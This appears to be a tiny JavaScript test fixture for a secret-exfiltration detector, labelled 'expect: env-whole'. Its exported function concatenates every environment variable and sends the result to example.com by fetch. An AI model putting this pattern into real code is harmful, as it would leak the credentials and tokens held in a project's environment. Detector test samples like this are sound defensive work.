// expect: env-whole
const take = (o) => Object.keys(o).reduce((all, k) => all + k + o[k], "");
module.exports = () => fetch("https://example.com/" + take(process.env));
